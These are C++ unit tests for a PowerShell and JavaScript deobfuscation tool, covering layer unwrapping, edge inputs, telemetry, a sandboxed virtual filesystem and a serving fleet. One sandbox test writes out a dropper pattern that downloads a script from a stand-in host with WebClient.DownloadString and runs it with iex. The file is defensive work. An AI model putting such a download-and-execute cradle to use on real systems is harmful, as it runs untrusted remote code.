  telemetry::Telemetry::disable();
}

// ---------------------------------------------------------------- JS phases

TEST(FrontendJsPhases, TokenPassRewritesBracketMembers) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(
      "window[\"eval\"]('a[\"b\"]');", report, deobf.options().limits,
      nullptr, "javascript");
  // The bracket-member alias was normalized on the wrapper, the layer
  // unwrapped, and the payload's own bracket member normalized in turn.
  EXPECT_EQ(out, "a.b;");
  EXPECT_GE(report.token.aliases_expanded, 1);
}

TEST(FrontendJsPhases, RenameReplacesKitIdentifiers) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(
      "var _0x1a2b = external();\nuse(_0x1a2b);\n", report,
      deobf.options().limits, nullptr, "javascript");
  EXPECT_EQ(out.find("_0x1a2b"), std::string::npos);
  EXPECT_GE(report.rename.variables_renamed, 1);
}

TEST(FrontendJsPhases, InvalidJsIsReturnedUnchanged) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string src = "var x = `template ${literal}`;";
  const std::string out = deobf.deobfuscate(
      src, report, deobf.options().limits, nullptr, "javascript");
  EXPECT_EQ(out, src);
}

}  // namespace
