// Concurrency tests for the telemetry subsystem, written to run under the
// TSan preset: a multi-threaded batch with spans and the trace recorder
// armed, plus counter stress across shards. Beyond data-race detection, the
// structural assertion is that every worker lane's recorded spans nest by
// interval containment — spans on one thread are LIFO, so a partial overlap
// inside a lane means the span stack or the recorder lost track.

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "telemetry/chrome_trace.h"
#include "telemetry/metrics.h"
#include "telemetry/telemetry.h"

namespace ideobf::telemetry {
namespace {

struct TelemetryOn {
  TelemetryOn() {
    Telemetry::metrics().reset();
    Telemetry::enable();
  }
  ~TelemetryOn() {
    Telemetry::disable();
    Telemetry::set_trace_recorder(nullptr);
  }
};

TEST(TelemetryConcurrency, CounterAndHistogramStressAcrossThreads) {
  TelemetryOn on;
  Counter& c = registry().counter("test_stress_total");
  Histogram& h = registry().histogram("test_stress_seconds");
  constexpr unsigned kThreads = 8;
  constexpr int kIters = 20000;
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (unsigned t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      // Half the threads bind a shard, half take the round-robin default —
      // both paths must be race-free and lose no updates.
      if (t % 2 == 0) set_current_shard(t);
      for (int i = 0; i < kIters; ++i) {
        c.add();
        h.observe_ns(static_cast<std::uint64_t>(i) * 1000);
      }
    });
  }
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(c.value(), static_cast<std::uint64_t>(kThreads) * kIters);
  EXPECT_EQ(h.count(), static_cast<std::uint64_t>(kThreads) * kIters);
}

TEST(TelemetryConcurrency, BatchSpansBalanceAndLanesNest) {
  TelemetryOn on;
  TraceRecorder recorder;
  Telemetry::set_trace_recorder(&recorder);

  // A small mixed corpus, several scripts per worker so lanes interleave.
  std::vector<std::string> scripts;
  for (int i = 0; i < 12; ++i) {
    switch (i % 3) {
      case 0:
        scripts.push_back("IeX ('Write-Output '+\"'a" + std::to_string(i) +
                          "'\")");
        break;
      case 1:
        scripts.push_back("$v = 'x" + std::to_string(i) +
                          "'\nWr`ite-Output $v");
        break;
      default:
        scripts.push_back("Write-Output " + std::to_string(i));
        break;
    }
  }

  InvokeDeobfuscator deobf;
  BatchReport report;
  Options options;
  options.threads = 4;
  const auto results = deobfuscate_batch(deobf, scripts, report, options);
  Telemetry::set_trace_recorder(nullptr);
  ASSERT_EQ(results.size(), scripts.size());
  EXPECT_EQ(report.failed(), 0);

  // Balance: every span opened during the batch closed.
  const std::uint64_t opened = spans_opened_counter().value();
  const std::uint64_t closed = spans_closed_counter().value();
  EXPECT_GT(opened, 0u);
  EXPECT_EQ(opened, closed);

  // The batch profile aggregated one Pipeline span per item across lanes.
  EXPECT_EQ(report.profile.stat(Phase::Pipeline).count, scripts.size());

  // Per-lane interval containment: sort a lane's spans by start time
  // (longer first on ties) and sweep with a stack of enclosing end times.
  // Each span must either start after the current enclosure ends (pop) or
  // lie entirely within it — a straddle is a broken span tree.
  std::map<unsigned, std::vector<TraceRecorder::Event>> lanes;
  for (const auto& [lane, event] : recorder.snapshot_events()) {
    lanes[lane].push_back(event);
  }
  ASSERT_FALSE(lanes.empty());
  for (auto& [lane, events] : lanes) {
    std::sort(events.begin(), events.end(),
              [](const TraceRecorder::Event& a, const TraceRecorder::Event& b) {
                if (a.start_ns != b.start_ns) return a.start_ns < b.start_ns;
                return a.dur_ns > b.dur_ns;
              });
    std::vector<std::uint64_t> enclosing_ends;
    for (const TraceRecorder::Event& e : events) {
      const std::uint64_t end = e.start_ns + e.dur_ns;
      while (!enclosing_ends.empty() && e.start_ns >= enclosing_ends.back()) {
        enclosing_ends.pop_back();
      }
      if (!enclosing_ends.empty()) {
        EXPECT_LE(end, enclosing_ends.back())
            << "lane " << lane << ": span straddles its enclosing span";
      }
      enclosing_ends.push_back(end);
    }
  }
}

TEST(TelemetryConcurrency, EnableDisableRacesWithRecordingThreads) {
  Telemetry::metrics().reset();
  Counter& c = registry().counter("test_toggle_total");
  std::vector<std::thread> writers;
  writers.reserve(4);
  for (unsigned t = 0; t < 4; ++t) {
    writers.emplace_back([&c, t] {
      set_current_shard(t);
      for (int i = 0; i < 50000; ++i) c.add();
    });
  }
  // Toggle the global flag concurrently with recording: writes must stay
  // well-defined (relaxed atomics) — the exact count is unknowable, only
  // that it never exceeds the attempted adds and nothing tears.
  std::thread toggler([] {
    for (int i = 0; i < 2000; ++i) {
      Telemetry::enable();
      Telemetry::disable();
    }
  });
  for (std::thread& w : writers) w.join();
  toggler.join();
  Telemetry::disable();
  EXPECT_LE(c.value(), 4u * 50000u);
}

}  // namespace
}  // namespace ideobf::telemetry
