// Deobfuscator edge inputs: degenerate scripts, odd encodings, CRLF, and
// inputs crafted to stress the fixed-point loop.

#include <gtest/gtest.h>

#include "core/deobfuscator.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

std::string deobf(std::string_view s) {
  InvokeDeobfuscator d;
  return d.deobfuscate(s);
}

TEST(DeobfEdge, EmptyAndWhitespaceOnly) {
  EXPECT_NO_THROW(deobf(""));
  EXPECT_NO_THROW(deobf("   \n\t  \n"));
}

TEST(DeobfEdge, CommentOnlyScript) {
  const std::string out = deobf("# just a comment");
  EXPECT_NE(out.find("# just a comment"), std::string::npos);
}

TEST(DeobfEdge, CrlfLineEndings) {
  const std::string out = deobf("$a = 'x'\r\nWrite-Host $a\r\n");
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
  EXPECT_NE(out.find("'x'"), std::string::npos);
}

TEST(DeobfEdge, Utf8ContentInStrings) {
  const std::string out = deobf("Write-Host ('caf' + '\xC3\xA9')");
  EXPECT_NE(out.find("'caf\xC3\xA9'"), std::string::npos) << out;
}

TEST(DeobfEdge, VeryLongSingleLine) {
  std::string chain = "'x'";
  for (int i = 0; i < 400; ++i) chain += "+'y'";
  const std::string out = deobf("Write-Host (" + chain + ")");
  EXPECT_TRUE(ps::is_valid_syntax(out));
  EXPECT_NE(out.find('y'), std::string::npos);
  // All 400 concatenations collapse to one literal.
  EXPECT_EQ(out.find('+'), std::string::npos) << out.substr(0, 120);
}

TEST(DeobfEdge, ManyStatements) {
  std::string script;
  for (int i = 0; i < 300; ++i) {
    script += "$v" + std::to_string(i) + " = 'a'+'b'\n";
  }
  const std::string out = deobf(script);
  EXPECT_TRUE(ps::is_valid_syntax(out));
  EXPECT_EQ(out.find("'a'+'b'"), std::string::npos);
}

TEST(DeobfEdge, SelfReferentialAssignment) {
  // $x = $x + 'a' with undefined $x: must not loop or crash.
  EXPECT_NO_THROW(deobf("$x = $x + 'a'\nWrite-Host $x"));
}

TEST(DeobfEdge, MutuallyRecursiveStrings) {
  const std::string src = "$a = '$b'\n$b = '$a'\nWrite-Host $a$b";
  const std::string out = deobf(src);
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
}

TEST(DeobfEdge, IexOfItselfTerminates) {
  // A quine-ish layer: iex of a string that contains another iex of a
  // literal. The fixed-point loop must terminate.
  std::string payload = "iex 'iex \"''done''\"'";
  EXPECT_NO_THROW(deobf(payload));
}

TEST(DeobfEdge, NestedEmptyGroups) {
  EXPECT_NO_THROW(deobf("$( )"));
  EXPECT_NO_THROW(deobf("@( )"));
  EXPECT_NO_THROW(deobf("@{ }"));
}

TEST(DeobfEdge, NumbersAndNullsSurvive) {
  const std::string out = deobf("$n = 0x4B + 1\nWrite-Host $n $null $true");
  EXPECT_TRUE(ps::is_valid_syntax(out));
  EXPECT_NE(out.find("76"), std::string::npos) << out;  // traced and folded
  EXPECT_NE(out.find("$true"), std::string::npos);      // booleans untouched
}

TEST(DeobfEdge, OptionsLimitLayersTerminate) {
  Options opts;
  opts.limits.max_layers = 1;
  InvokeDeobfuscator d(opts);
  // Two layers but only one allowed: output must still be valid and at
  // least one layer removed.
  const std::string two = "iex 'iex ''Write-Host deep'''";
  const std::string out = d.deobfuscate(two);
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
}

TEST(DeobfEdge, BlockCommentsInsideScript) {
  const std::string out =
      deobf("Write-Host <# inline #> ('a'+'b')");
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
  EXPECT_NE(out.find("'ab'"), std::string::npos) << out;
}

}  // namespace
}  // namespace ideobf
