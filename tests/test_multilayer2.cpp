// Second multi-layer battery: deep nesting across mixed layer styles must
// always unwind to the original content (the fixed-point property of paper
// section III-B4).

#include <gtest/gtest.h>

#include <random>

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

class DeepLayers : public ::testing::TestWithParam<int> {};

TEST_P(DeepLayers, RandomStacksAlwaysUnwind) {
  const int seed = GetParam();
  std::mt19937 rng(seed * 131 + 7);
  Obfuscator obf(seed);
  InvokeDeobfuscator deobf;

  const std::string marker = "deep-layer-marker";
  std::string script = "Write-Host '" + marker + "'";
  const int layers = 1 + static_cast<int>(rng() % 4);
  for (int i = 0; i < layers; ++i) {
    static const Technique kWrap[] = {Technique::Concat, Technique::Reorder,
                                      Technique::Base64Encoding,
                                      Technique::Replace, Technique::Bxor};
    const auto style = static_cast<Obfuscator::LayerStyle>(rng() % 3);
    const std::string wrapped =
        obf.wrap_layer(script, kWrap[rng() % 5], style);
    ASSERT_TRUE(ps::is_valid_syntax(wrapped)) << wrapped;
    script = wrapped;
  }

  const std::string out = deobf.deobfuscate(script);
  EXPECT_TRUE(contains_ci(out, marker))
      << "layers=" << layers << "\nscript:\n" << script << "\nout:\n" << out;
  EXPECT_FALSE(contains_ci(out, "encodedcommand")) << out;
}

INSTANTIATE_TEST_SUITE_P(Seeds, DeepLayers, ::testing::Range(0, 15));

TEST(Multilayer2, EncodedCommandWithNoiseFlags) {
  Obfuscator obf(3);
  const std::string wrapped = obf.wrap_layer(
      "Write-Host flagged", Technique::Concat,
      Obfuscator::LayerStyle::EncodedCommand);
  // wrap_layer already adds -NoP -NonI noise flags; unwrapping must ignore
  // them and only decode the payload.
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(wrapped);
  EXPECT_TRUE(contains_ci(out, "Write-Host flagged")) << out;
}

TEST(Multilayer2, DotInvocationStatementForm) {
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(". ('ie'+'x') 'Write-Host dotted'");
  EXPECT_TRUE(contains_ci(out, "Write-Host dotted")) << out;
}

TEST(Multilayer2, DoubleQuotedConstantPayload) {
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate("iex \"Write-Host dq\"");
  EXPECT_TRUE(contains_ci(out, "Write-Host dq")) << out;
  EXPECT_FALSE(contains_ci(out, "iex")) << out;
}

TEST(Multilayer2, NestedIexInsideAssignedBlockIsRecoveredNotUnwrapped) {
  // iex in a non-statement position is recovered through execution when
  // safe, but the assignment structure stays.
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate("$r = iex \"'va'+'lue'\"");
  EXPECT_TRUE(contains_ci(out, "$r")) << out;
  EXPECT_TRUE(contains_ci(out, "value")) << out;
}

TEST(Multilayer2, InvalidPayloadIsKept) {
  // A string that is not a valid script must not be unwrapped.
  InvokeDeobfuscator deobf;
  const std::string src = "iex 'not ( a script'";
  const std::string out = deobf.deobfuscate(src);
  EXPECT_TRUE(contains_ci(out, "not ( a script")) << out;
  EXPECT_TRUE(ps::is_valid_syntax(out));
}

TEST(Multilayer2, MultipleIndependentLayersInOneScript) {
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(
      "iex 'Write-Host one'\niex 'Write-Host two'");
  EXPECT_TRUE(contains_ci(out, "Write-Host one")) << out;
  EXPECT_TRUE(contains_ci(out, "Write-Host two")) << out;
  EXPECT_FALSE(contains_ci(out, "iex ")) << out;
}

TEST(Multilayer2, MixedLayerAndInlineObfuscation) {
  Obfuscator obf(17);
  const std::string inner =
      "Write-Host " + obf.obfuscate_literal(Technique::Reverse, "mixed-marker");
  const std::string wrapped =
      obf.wrap_layer(inner, Technique::Base64Encoding,
                     Obfuscator::LayerStyle::IexArgument);
  InvokeDeobfuscator deobf;
  EXPECT_TRUE(contains_ci(deobf.deobfuscate(wrapped), "mixed-marker"));
}

}  // namespace
}  // namespace ideobf
