// Regression pin for our tool's Table II row: the exact ability matrix the
// paper reports must hold under ctest, not only in the bench binary.
// Also covers the virtual filesystem added for stage-to-disk chains.

#include <gtest/gtest.h>

#include "baselines/baseline.h"
#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

// --------------------------------------------- Table II row regression pin

class AbilityRow : public ::testing::TestWithParam<Technique> {};

TEST_P(AbilityRow, MatchesPaperTableII) {
  const Technique t = GetParam();
  Obfuscator obf(5150 + static_cast<int>(t));
  InvokeDeobfuscator deobf;
  const std::string marker = "pin-marker-2024";

  std::string script;
  if (technique_level(t) == 1) {
    script = obf.apply(t, "write-host '" + marker + "'");
  } else if (t == Technique::WhitespaceEncoding ||
             t == Technique::SpecialCharEncoding) {
    script = obf.apply(t, "write-host '" + marker + "'");
  } else {
    std::string expr;
    do {
      expr = obf.obfuscate_literal(t, marker);
    } while (expr.find(marker) != std::string::npos);
    script = "write-host " + expr;
  }

  const std::string out = deobf.deobfuscate(script);
  if (t == Technique::WhitespaceEncoding) {
    EXPECT_FALSE(contains_ci(out, marker)) << "paper's x cell must stay x";
  } else if (t == Technique::RandomName) {
    SUCCEED();  // covered by the renaming tests; no marker semantics here
  } else {
    EXPECT_TRUE(contains_ci(out, marker)) << script << "\n-> " << out;
  }
}

INSTANTIATE_TEST_SUITE_P(
    TableII, AbilityRow, ::testing::ValuesIn(all_techniques()),
    [](const ::testing::TestParamInfo<Technique>& info) {
      return std::string(to_string(info.param));
    });

// ------------------------------------------------------ virtual filesystem

TEST(VirtualFs, SetThenGetContent) {
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script("Set-Content C:\\t\\a.txt 'stored'\n"
                                   "Get-Content C:\\t\\a.txt")
                .to_display_string(),
            "stored");
}

TEST(VirtualFs, AddContentAppends) {
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script("Set-Content f.txt 'a'\n"
                                   "Add-Content f.txt 'b'\nGet-Content f.txt")
                .to_display_string(),
            "ab");
}

TEST(VirtualFs, TestPathReflectsWrites) {
  ps::Interpreter interp;
  EXPECT_FALSE(interp.evaluate_script("Test-Path x.ps1").get_bool());
  EXPECT_TRUE(interp.evaluate_script("Set-Content x.ps1 'v'\nTest-Path x.ps1")
                  .get_bool());
}

TEST(VirtualFs, IoFileRoundTrip) {
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script(
                    "[IO.File]::WriteAllText('C:\\s.txt', 'io-data')\n"
                    "[IO.File]::ReadAllText('C:\\s.txt')")
                .to_display_string(),
            "io-data");
}

TEST(VirtualFs, PipelineOutFile) {
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script("'from-pipe' | Set-Content p.txt\n"
                                   "Get-Content p.txt")
                .to_display_string(),
            "from-pipe");
}

TEST(VirtualFs, StageToDiskThenExecute) {
  // The dropper pattern the virtual FS exists for: write a script to disk,
  // read it back, invoke it — behavior must flow end to end.
  Sandbox sandbox;
  const BehaviorProfile p = sandbox.run(
      "Set-Content stage.ps1 '(New-Object Net.WebClient).DownloadString("
      "''http://staged.test/x'')'\n"
      "iex (Get-Content stage.ps1)");
  EXPECT_TRUE(p.executed_ok) << p.error;
  EXPECT_TRUE(p.network.count("dns:staged.test")) << p.error;
}

TEST(VirtualFs, PathsAreCaseInsensitive) {
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script("Set-Content C:\\X.TXT 'v'\n"
                                   "Get-Content c:\\x.txt")
                .to_display_string(),
            "v");
}

}  // namespace
}  // namespace ideobf
