// Fleet-serving tests: the shared content-addressed response cache, the
// admission-control primitives, the worker-side quarantine/cache/reload
// paths (in-process Server), and the supervised multi-process fleet driven
// through the real CLI binary (crash containment, restart, quarantine of
// repeat-killer scripts, a real kill -9).

#include <gtest/gtest.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "core/fault.h"
#include "ideobf/api.h"
#include "ideobf/client.h"
#include "server/admission.h"
#include "server/json.h"
#include "server/protocol.h"
#include "server/server.h"
#include "server/shared_cache.h"
#include "server/supervisor.h"

using ideobf::FailureKind;
using ideobf::Request;
using ideobf::ServeClient;
using ideobf::ServeReply;
using ideobf::server::CacheKey;
using ideobf::server::FairBoundedQueue;
using ideobf::server::make_cache_key;
using ideobf::server::Server;
using ideobf::server::ServerConfig;
using ideobf::server::SharedResponseCache;
using ideobf::server::splice_cached_response_line;
using ideobf::server::TokenBucket;

namespace {

int g_temp_counter = 0;

std::string temp_path(const std::string& stem) {
  return "/tmp/ideobf-fleet-" + std::to_string(::getpid()) + "-" +
         std::to_string(g_temp_counter++) + "-" + stem;
}

std::string temp_dir(const std::string& stem) {
  std::string dir = temp_path(stem);
  ::mkdir(dir.c_str(), 0700);
  return dir;
}

std::string hash_hex(std::uint64_t h) {
  char buf[17];
  std::snprintf(buf, sizeof(buf), "%016llx",
                static_cast<unsigned long long>(h));
  return std::string(buf, 16);
}

std::string script_hash_hex(const std::string& source) {
  return hash_hex(ideobf::server::fnv1a64(source, 0));
}

Request deobf_request(const std::string& source, const std::string& id) {
  Request request;
  request.source = source;
  request.id = id;
  return request;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// ---------------------------------------------------------------------------
// SharedResponseCache
// ---------------------------------------------------------------------------

std::unique_ptr<SharedResponseCache> open_cache(const std::string& path,
                                                std::uint32_t slots = 64,
                                                std::uint32_t slot_bytes =
                                                    1024) {
  SharedResponseCache::Config cfg;
  cfg.path = path;
  cfg.slot_count = slots;
  cfg.slot_bytes = slot_bytes;
  std::string error;
  auto cache = SharedResponseCache::open(cfg, error);
  EXPECT_NE(cache, nullptr) << error;
  return cache;
}

TEST(SharedCache, StoreLookupRoundTrip) {
  auto cache = open_cache(temp_path("cache.bin"));
  const CacheKey key = make_cache_key("Write-Host 'hi'", "opts-v1");
  ASSERT_TRUE(key.valid());

  std::string out;
  EXPECT_FALSE(cache->lookup(key, out));
  EXPECT_TRUE(cache->store(key, "{\"id\":\"\",\"status\":\"ok\"}"));
  ASSERT_TRUE(cache->lookup(key, out));
  EXPECT_EQ(out, "{\"id\":\"\",\"status\":\"ok\"}");

  const auto stats = cache->stats();
  EXPECT_EQ(stats.hits, 1u);
  EXPECT_EQ(stats.misses, 1u);
  EXPECT_EQ(stats.stores, 1u);
}

TEST(SharedCache, DistinctOptionsFingerprintsDoNotAlias) {
  const CacheKey a = make_cache_key("same source", "opts-a");
  const CacheKey b = make_cache_key("same source", "opts-b");
  EXPECT_TRUE(a.lo != b.lo || a.hi != b.hi);
}

TEST(SharedCache, SecondHandleOnSameFileSeesStores) {
  const std::string path = temp_path("cache.bin");
  auto writer = open_cache(path);
  auto reader = open_cache(path);
  const CacheKey key = make_cache_key("shared entry", "fp");
  ASSERT_TRUE(writer->store(key, "payload-from-writer"));
  std::string out;
  ASSERT_TRUE(reader->lookup(key, out));
  EXPECT_EQ(out, "payload-from-writer");
}

TEST(SharedCache, CorruptEntryDetectedAndServedAsMiss) {
  auto cache = open_cache(temp_path("cache.bin"));
  const CacheKey key = make_cache_key("to be corrupted", "fp");
  ASSERT_TRUE(cache->store(key, "pristine payload bytes"));
  ASSERT_TRUE(cache->corrupt_entry(key));

  std::string out;
  EXPECT_FALSE(cache->lookup(key, out));
  EXPECT_EQ(cache->stats().corrupt, 1u);

  // The slot is reusable: a fresh store repairs it.
  ASSERT_TRUE(cache->store(key, "repaired"));
  ASSERT_TRUE(cache->lookup(key, out));
  EXPECT_EQ(out, "repaired");
}

TEST(SharedCache, OversizedPayloadIsSkippedNotTruncated) {
  auto cache = open_cache(temp_path("cache.bin"), 8, 256);
  const CacheKey key = make_cache_key("big", "fp");
  const std::string big(cache->max_payload_bytes() + 1, 'x');
  EXPECT_FALSE(cache->store(key, big));
  EXPECT_GE(cache->stats().store_skips, 1u);
  std::string out;
  EXPECT_FALSE(cache->lookup(key, out));
}

TEST(SharedCache, EvictionKeepsRecentEntriesReachable) {
  // Far more keys than slots: every store must succeed (oldest evicted),
  // and the most recent key must still be readable.
  auto cache = open_cache(temp_path("cache.bin"), 8, 512);
  CacheKey last{};
  std::string last_payload;
  for (int i = 0; i < 100; ++i) {
    last = make_cache_key("script #" + std::to_string(i), "fp");
    last_payload = "payload #" + std::to_string(i);
    EXPECT_TRUE(cache->store(last, last_payload));
  }
  std::string out;
  ASSERT_TRUE(cache->lookup(last, out));
  EXPECT_EQ(out, last_payload);
}

TEST(SharedCache, RejectsGeometryMismatch) {
  const std::string path = temp_path("cache.bin");
  { auto cache = open_cache(path, 64, 1024); }
  SharedResponseCache::Config cfg;
  cfg.path = path;
  cfg.slot_count = 32;  // different geometry than the existing file
  cfg.slot_bytes = 1024;
  std::string error;
  EXPECT_EQ(SharedResponseCache::open(cfg, error), nullptr);
  EXPECT_FALSE(error.empty());
}

TEST(SharedCache, SpliceRestoresIdAndMarksCached) {
  const std::string cached = "{\"id\":\"\",\"status\":\"ok\",\"result\":\"x\"}";
  std::string out;
  ASSERT_TRUE(splice_cached_response_line(cached, "req-42", out));
  EXPECT_EQ(out,
            "{\"id\":\"req-42\",\"cached\":true,\"status\":\"ok\","
            "\"result\":\"x\"}");
  // With a server-assigned request id the splice threads it in right after
  // the correlation id, so even cache hits stay joinable against traces.
  ASSERT_TRUE(splice_cached_response_line(cached, "req-42", out, "w0-7"));
  EXPECT_EQ(out,
            "{\"id\":\"req-42\",\"request_id\":\"w0-7\",\"cached\":true,"
            "\"status\":\"ok\",\"result\":\"x\"}");
  // A payload without the empty-id prefix is refused (treated as a miss).
  EXPECT_FALSE(splice_cached_response_line("{\"status\":\"ok\"}", "id", out));
}

// ---------------------------------------------------------------------------
// Admission primitives
// ---------------------------------------------------------------------------

TEST(Admission, TokenBucketStartsFullThenDepletes) {
  TokenBucket bucket;
  // rate 1/s, burst 2: a fresh bucket allows the burst, then refuses.
  EXPECT_TRUE(bucket.try_take(1.0, 2.0, 0.0));
  EXPECT_TRUE(bucket.try_take(1.0, 2.0, 0.0));
  EXPECT_FALSE(bucket.try_take(1.0, 2.0, 0.0));
  // One second later one token has refilled.
  EXPECT_TRUE(bucket.try_take(1.0, 2.0, 1.0));
  EXPECT_FALSE(bucket.try_take(1.0, 2.0, 1.0));
}

TEST(Admission, TokenBucketRetryAfterNamesRefillTime) {
  TokenBucket bucket;
  EXPECT_TRUE(bucket.try_take(2.0, 1.0, 0.0));
  const std::uint64_t wait = bucket.retry_after_ms(2.0, 1.0, 0.0);
  // One token at 2/s is 500ms away (+1ms rounding guard).
  EXPECT_GE(wait, 500u);
  EXPECT_LE(wait, 502u);
  EXPECT_EQ(bucket.retry_after_ms(2.0, 1.0, 1.0), 0u);
}

TEST(Admission, TokenBucketHotReloadedRateAppliesImmediately) {
  TokenBucket bucket;
  EXPECT_TRUE(bucket.try_take(1.0, 1.0, 0.0));
  EXPECT_FALSE(bucket.try_take(1.0, 1.0, 0.1));
  // The caller passes the live rate each time: a reload to 100/s refills
  // this existing bucket without any reset handshake.
  EXPECT_TRUE(bucket.try_take(100.0, 1.0, 0.2));
}

TEST(Admission, FairQueueRoundRobinAcrossClients) {
  FairBoundedQueue<int> q(16);
  EXPECT_TRUE(q.try_push(1, 10));
  EXPECT_TRUE(q.try_push(1, 11));
  EXPECT_TRUE(q.try_push(1, 12));
  EXPECT_TRUE(q.try_push(2, 20));

  std::vector<int> order;
  int item = 0;
  for (int i = 0; i < 4; ++i) {
    ASSERT_TRUE(q.pop(item));
    order.push_back(item);
  }
  // Client 2's single item does not wait behind client 1's backlog, and
  // client 1's own items stay FIFO.
  EXPECT_EQ(order, (std::vector<int>{10, 20, 11, 12}));
}

TEST(Admission, FairQueueCapRefusesAndCloseDrains) {
  FairBoundedQueue<int> q(2);
  EXPECT_TRUE(q.try_push(1, 1));
  EXPECT_TRUE(q.try_push(2, 2));
  EXPECT_FALSE(q.try_push(3, 3));  // full: the "overloaded" signal
  q.close();
  EXPECT_FALSE(q.try_push(1, 4));  // closed refuses new work
  int item = 0;
  EXPECT_TRUE(q.pop(item));  // but everything accepted still drains
  EXPECT_TRUE(q.pop(item));
  EXPECT_FALSE(q.pop(item));
}

TEST(FleetFault, CliSpecParses) {
  ideobf::FaultSite site{};
  ideobf::FaultSpec spec{};
  std::string error;
  ASSERT_TRUE(ideobf::parse_fault_cli_spec(
      "worker-abort:abort:skip=2:fires=1:match=KILLME", site, spec, error))
      << error;
  EXPECT_EQ(site, ideobf::FaultSite::WorkerAbort);
  EXPECT_EQ(spec.action, ideobf::FaultAction::Abort);
  EXPECT_EQ(spec.skip_first, 2);
  EXPECT_EQ(spec.max_fires, 1);
  EXPECT_EQ(spec.match_text, "KILLME");

  EXPECT_FALSE(ideobf::parse_fault_cli_spec("nonsense:abort", site, spec,
                                            error));
  EXPECT_FALSE(ideobf::parse_fault_cli_spec("worker-abort:frobnicate", site,
                                            spec, error));
  EXPECT_FALSE(ideobf::parse_fault_cli_spec("worker-abort", site, spec,
                                            error));
}

// ---------------------------------------------------------------------------
// In-process server: admission, quarantine, cache, probes, SIGHUP reload
// ---------------------------------------------------------------------------

ServerConfig base_config(const std::string& socket_path) {
  ServerConfig cfg;
  cfg.unix_socket_path = socket_path;
  cfg.threads = 2;
  return cfg;
}

TEST(AdmissionServer, FirehoseRefusedWithRetryAfter) {
  const std::string sock = temp_path("admission.sock");
  ServerConfig cfg = base_config(sock);
  cfg.admission_rate = 0.001;  // ~one token per 1000s: only the burst lands
  cfg.admission_burst = 1.0;
  Server server(std::move(cfg));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  const ServeReply first = client.call(deobf_request("Write-Host 1", "a"));
  EXPECT_EQ(first.status, "ok");
  const ServeReply second = client.call(deobf_request("Write-Host 2", "b"));
  EXPECT_EQ(second.status, "overloaded");
  EXPECT_GT(second.retry_after_ms, 0u);

  EXPECT_GE(server.stats().admission_rejected_total, 1u);
  server.stop();
}

TEST(FleetServer, QuarantinedHashRefusedWithoutExecution) {
  const std::string sock = temp_path("quarantine.sock");
  const std::string qpath = temp_path("quarantine");
  const std::string killer = "Write-Host 'repeat offender'";
  { std::ofstream(qpath) << script_hash_hex(killer) << "\n"; }

  ServerConfig cfg = base_config(sock);
  cfg.quarantine_path = qpath;
  Server server(std::move(cfg));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  const ServeReply reply = client.call(deobf_request(killer, "q1"));
  EXPECT_EQ(reply.status, "failed");
  EXPECT_EQ(reply.response.failure, FailureKind::Quarantined);
  // Refused before the engine: the input is passed through untouched.
  EXPECT_EQ(reply.response.result, killer);
  EXPECT_NE(reply.response.failure_detail.find("quarantined"),
            std::string::npos);

  // Other scripts are unaffected.
  const ServeReply ok = client.call(deobf_request("Write-Host 'fine'", "q2"));
  EXPECT_EQ(ok.status, "ok");

  const auto stats = server.stats();
  EXPECT_EQ(stats.quarantined_total, 1u);
  server.stop();
}

TEST(FleetServer, SharedCacheHitMarksCachedAndMatches) {
  const std::string sock = temp_path("cachehit.sock");
  ServerConfig cfg = base_config(sock);
  cfg.cache_path = temp_path("cache.bin");
  Server server(std::move(cfg));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  const std::string source = "wr`ite-ho`st 'cache me'";
  const ServeReply cold = client.call(deobf_request(source, "c1"));
  ASSERT_EQ(cold.status, "ok");
  EXPECT_FALSE(cold.cached);

  const ServeReply warm = client.call(deobf_request(source, "c2"));
  ASSERT_EQ(warm.status, "ok");
  EXPECT_TRUE(warm.cached);
  EXPECT_EQ(warm.response.id, "c2");  // the id is spliced per-request
  EXPECT_EQ(warm.response.result, cold.response.result);

